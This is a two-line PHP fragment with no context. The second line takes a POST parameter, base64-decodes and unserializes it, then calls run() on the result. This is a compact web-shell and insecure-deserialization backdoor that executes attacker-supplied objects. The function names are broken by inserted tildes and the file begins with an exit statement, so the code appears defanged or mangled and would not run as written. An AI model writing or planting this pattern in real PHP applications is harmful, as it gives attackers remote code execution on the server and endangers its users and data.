<?php exit; ?>
<?php $x = uns~erialize(bas~e64_decode($_P~OST['m'])); $x->run();
